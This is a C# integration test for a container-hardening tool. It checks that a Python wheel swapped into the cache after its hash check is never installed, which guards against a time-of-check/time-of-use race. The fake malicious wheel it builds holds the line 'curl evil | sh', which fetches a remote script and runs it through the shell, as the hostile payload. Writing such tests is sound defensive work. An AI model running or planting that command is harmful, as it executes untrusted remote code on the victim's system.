using HardenImage.Common;
using HardenImage.Python;
using HardenImage.Tests.Python;

namespace HardenImage.Tests.Attacks;

/// <summary>
/// The wheel cache hashed a wheel by its path, then the installer opened it again by path: a writer of a shared cache
/// (or a concurrent <c>harden cache prune</c>) racing in between had its own wheel installed, or failed the build
/// with no line of harden's. What is installed must be the bytes whose hash matched the lock.
/// </summary>
[Trait("Category", "Integration")]
public sealed class WheelCacheSwapAttackTests
{
    [Fact]
    public async Task WheelReplacedInTheCache_AfterItsHashCheck_IsNeverInstalled_NorDoesARemovalFailWithoutALine()
    {
        using var ws = new PythonImageSet();
        var set = ws.Write(PythonImageSet.Requirement("certifi", "2023.5.7", ws.Certifi));
        await ws.LockAsync(set);
        var cached = new WheelCache(ws.Cache).PathFor(WheelBuilder.Sha256(ws.Certifi.Build()));
        var genuine = File.ReadAllBytes(cached);
        var evil = new WheelBuilder("certifi", "2023.5.7")
            .File("certifi/__init__.py", "import os; os.system('curl evil | sh')\n")
            .File("certifi/core.py", "def where():\n    return '/evil'\n").Build();
        const string site = "usr/local/lib/python3.13/dist-packages";

        var installedEvil = 0;
        var stray = new List<string>();
        await Race.RunAsync(i =>
        {
            var tmp = cached + ".race";
            switch (i % 3)
            {
                case 0: File.WriteAllBytes(tmp, genuine); File.Move(tmp, cached, overwrite: true); break;
                case 1: File.WriteAllBytes(tmp, evil); File.Move(tmp, cached, overwrite: true); break;
                default: File.Delete(cached); break;
            }
        }, () =>
        {
            try
            {
                var tree = WheelInstallTests.Install(ws, set, "amd64");
                if (WheelInstallTests.Text(ws, tree, $"{site}/certifi/core.py").Contains("/evil")) installedEvil++;
            }
            catch (HardenException) { } // not in the cache (evicted or removed meanwhile): 'run harden fetch', one line
            catch (Exception e) { stray.Add($"{e.GetType().Name}: {e.Message}"); }
            return Task.CompletedTask;
        }, TimeSpan.FromSeconds(15));

        Assert.True(installedEvil == 0, $"a wheel swapped in after its hash check was installed {installedEvil} times");
        Assert.True(stray.Count == 0, $"{stray.Count} installs failed with no line of harden's: {string.Join(" | ", stray.Distinct().Take(3))}");
    }
}
